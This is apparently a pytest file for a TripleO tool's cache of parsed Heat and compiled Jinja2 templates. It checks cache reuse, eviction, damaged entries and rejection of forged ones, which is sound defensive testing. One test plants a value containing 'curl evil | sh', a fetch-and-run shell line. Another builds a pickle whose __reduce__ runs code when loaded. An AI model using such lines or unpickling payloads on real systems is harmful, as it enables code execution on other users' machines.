"""heatclient's parses and Jinja2's compiled templates kept by content
(:mod:`tripleo_ephemeral.deploy.template_cache`): real heatclient, real
Jinja2, real files."""

import hashlib
import logging
import marshal
import os
import pickle

from heatclient.common import template_format
import pytest

from tripleo_ephemeral.deploy import template_cache
from tripleo_ephemeral.overcloud import roles
from tripleo_ephemeral.overcloud import template_processing as tp
from tripleo_ephemeral import usercache

TEMPLATE = 'heat_template_version: rocky\nresources: {r: {type: %s}}\n'


def _user_cache(path):
    return usercache.UserCache(str(path))


@pytest.fixture
def cache(tmp_path):
    return template_cache.ParsedTemplates(_user_cache(tmp_path / 'cache'))


def _entries(cache):
    return sorted(os.listdir(cache.directory))


def test_a_changed_template_is_never_served_from_the_cache(cache):
    parse = template_format.parse
    first = cache.parse(parse, TEMPLATE % 'OS::Heat::None')
    again = cache.parse(parse, TEMPLATE % 'OS::Heat::None')
    assert again == first and again is not first  # new objects every hit
    changed = cache.parse(parse, TEMPLATE % 'OS::Heat::Value')
    assert changed['resources']['r']['type'] == 'OS::Heat::Value'
    assert (cache.hits, cache.misses) == (1, 2)
    assert len(_entries(cache)) == 2


def test_a_torn_or_damaged_entry_is_ignored_and_parsed_again(cache, caplog):
    parse = template_format.parse
    text = TEMPLATE % 'OS::Heat::None'
    wanted = cache.parse(parse, text)
    path = os.path.join(cache.directory, _entries(cache)[0])
    with open(path, 'rb') as f:
        data = f.read()
    for damaged in (data[:len(data) // 2], data[:-1] + b'x', b''):
        with open(path, 'wb') as f:
            f.write(damaged)
        assert cache.parse(parse, text) == wanted
    assert cache.hits == 0 and cache.misses == 4
    assert cache.parse(parse, text) == wanted and cache.hits == 1
    # Named once, however often it was dropped.
    assert [r.getMessage() for r in caplog.records
            if r.levelno == logging.WARNING] == [
        'The cache entry %s failed its check (damaged, or not written by '
        'you) and was removed' % path]


def _planted_parse(cache, text, value):
    """What the old format (its own SHA-256 in front) or another key
    makes of ``value``: what another user could write."""
    body = marshal.dumps(('parsed', value))
    return cache.key(text), hashlib.sha256(body).digest() + body


def test_an_entry_not_sealed_with_the_users_key_is_never_served(tmp_path):
    text = TEMPLATE % 'OS::Heat::None'
    planted = {'heat_template_version': 'rocky', 'resources': {
        'r': {'type': 'OS::Heat::None', 'x': 'curl evil | sh'}}}
    mine = template_cache.ParsedTemplates(_user_cache(tmp_path / 'mine'))
    key, blob = _planted_parse(mine, text, planted)
    # Their own digest, then a seal with another user's key.
    theirs = _user_cache(tmp_path / 'theirs')
    assert theirs.usable()
    for forged in (blob, theirs.seal('parsed-templates/' + key,
                                     blob[32:])):
        with open(os.path.join(mine.directory, key + '.parsed'),
                  'wb') as f:
            f.write(forged)
        assert mine.parse(template_format.parse, text) == \
            template_format.parse(text)
    assert (mine.hits, mine.misses) == (0, 2)


def test_what_is_no_template_is_kept_as_its_error(cache):
    calls = []

    def parse(text):
        calls.append(text)
        return template_format.parse(text)
    for _ in range(2):
        with pytest.raises(ValueError, match='format version not found'):
            cache.parse(parse, '#!/bin/sh\necho hello\n')
    assert len(calls) == 1


def test_the_oldest_entries_go_past_the_bound(tmp_path):
    cache = template_cache.ParsedTemplates(_user_cache(tmp_path / 'c'),
                                           max_bytes=10 ** 9)
    for index in range(4):
        cache.parse(template_format.parse, TEMPLATE % ('T%d' % index))
    paths = [os.path.join(cache.directory, name) for name in _entries(cache)]
    for age, path in enumerate(sorted(paths)):
        os.utime(path, (1000 + age, 1000 + age))
    size = os.path.getsize(paths[0])
    cache.max_bytes = 2 * size
    cache.evict()
    assert _entries(cache) == sorted(os.path.basename(p)
                                     for p in sorted(paths)[2:])


def test_an_unwritable_cache_only_parses(tmp_path):
    blocked = tmp_path / 'file'
    blocked.write_text('')
    cache = template_cache.ParsedTemplates(_user_cache(blocked / 'cache'))
    assert cache.directory is None
    with cache.installed():
        assert template_format.parse(TEMPLATE % 'A')['resources']
    assert cache.misses == 1


def test_the_create_request_is_the_same_through_the_cache(tmp_path, cache):
    src = tp.bundled_templates_dir()
    rendered = tp.prepare_templates(
        src, str(tmp_path / 'w'),
        roles.load_roles(os.path.join(src, 'roles_data.yaml')), [])
    stock = tp.stack_create_args('oc', rendered)
    original = template_format.parse
    for _ in range(2):  # filled, then served
        with cache.installed():
            assert template_format.parse is not original
            assert tp.stack_create_args('oc', rendered) == stock
        assert template_format.parse is original
    assert cache.hits and cache.misses


def test_the_cache_is_in_the_users_cache_dir(monkeypatch, tmp_path):
    monkeypatch.setenv('XDG_CACHE_HOME', str(tmp_path))
    monkeypatch.setattr(usercache, '_caches', {})
    assert template_cache.ParsedTemplates().directory == str(
        tmp_path / 'tripleo-ephemeral' / 'parsed-templates')


def _render_tree(root, text, compiled):
    os.makedirs(root, exist_ok=True)
    with open(os.path.join(root, 'r.j2.yaml'), 'w') as f:
        f.write(text)
    tp.render_templates(root, [{'name': 'Controller'}], [], compiled)
    with open(os.path.join(root, 'r.yaml')) as f:
        return f.read()


def test_a_changed_jinja_template_is_compiled_again(tmp_path):
    root = str(tmp_path / 't')
    cache = _user_cache(tmp_path / 'c')
    with template_cache.compiled_templates(cache) as compiled:
        assert _render_tree(root, 'a: {{ roles[0].name }}\n',
                            compiled) == 'a: Controller\n'
        assert compiled.written
        assert _render_tree(root, 'b: {{ roles[0].name }}\n',
                            compiled) == 'b: Controller\n'
    with template_cache.compiled_templates(cache) as compiled:
        assert _render_tree(root, 'b: {{ roles[0].name }}\n',
                            compiled) == 'b: Controller\n'
        assert not compiled.written  # served


def test_a_torn_jinja_entry_is_compiled_again(tmp_path):
    root = str(tmp_path / 't')
    cache = _user_cache(tmp_path / 'c')
    cache_dir = tmp_path / 'c' / template_cache.COMPILED_DIR
    with template_cache.compiled_templates(cache) as compiled:
        _render_tree(root, 'a: {{ roles[0].name }}\n', compiled)
    for entry in os.listdir(cache_dir):
        data = (cache_dir / entry).read_bytes()
        (cache_dir / entry).write_bytes(data[:20])  # into the checksum
    with template_cache.compiled_templates(cache) as compiled:
        assert _render_tree(root, 'a: {{ roles[0].name }}\n',
                            compiled) == 'a: Controller\n'
        assert compiled.written


class _Planted:
    """What a pickle runs when it is loaded."""

    ran = []

    def __reduce__(self):
        return (_Planted.ran.append, ('ran',))


def test_a_planted_jinja_entry_never_runs(tmp_path):
    """Jinja2's own cache loads a pickle before any check; this one reads
    nothing unsealed: neither Jinja2's files nor entries of another key,
    whatever their names."""
    from jinja2 import bccache

    root = str(tmp_path / 't')
    cache = _user_cache(tmp_path / 'c')
    with template_cache.compiled_templates(cache) as compiled:
        _render_tree(root, 'a: {{ roles[0].name }}\n', compiled)
    cache_dir = tmp_path / 'c' / template_cache.COMPILED_DIR
    payload = bccache.bc_magic + pickle.dumps(_Planted())
    (cache_dir / '__jinja2_x.cache').write_bytes(payload)
    for entry in os.listdir(cache_dir):
        if entry.endswith('.j2c'):
            (cache_dir / entry).write_bytes(payload)
    with template_cache.compiled_templates(cache) as compiled:
        assert _render_tree(root, 'a: {{ roles[0].name }}\n',
                            compiled) == 'a: Controller\n'
        assert compiled.written  # compiled again
    assert _Planted.ran == []
    assert not (cache_dir / '__jinja2_x.cache').exists()


def test_the_jinja_cache_keeps_a_sandbox_apart(tmp_path):
    """A sandboxed environment compiles other code: its entries are its
    own, and a template the sandbox refuses stays refused."""
    import jinja2
    from jinja2 import sandbox

    cache = _user_cache(tmp_path / 'c')
    loader = jinja2.DictLoader({'t': '{{ x.__class__.__name__ }}'})
    with template_cache.compiled_templates(cache) as compiled:
        plain = jinja2.Environment(loader=loader, bytecode_cache=compiled)
        assert plain.get_template('t').render(x=1) == 'int'
        boxed = sandbox.SandboxedEnvironment(loader=loader,
                                             bytecode_cache=compiled)
        with pytest.raises(jinja2.exceptions.SecurityError):
            boxed.get_template('t').render(x=1)


def test_an_unusable_jinja_cache_only_compiles(tmp_path):
    blocked = tmp_path / 'file'
    blocked.write_text('')
    with template_cache.compiled_templates(
            _user_cache(blocked / 'c')) as compiled:
        assert compiled is None
        assert _render_tree(str(tmp_path / 't'), 'a: 1\n', compiled) == \
            'a: 1\n'
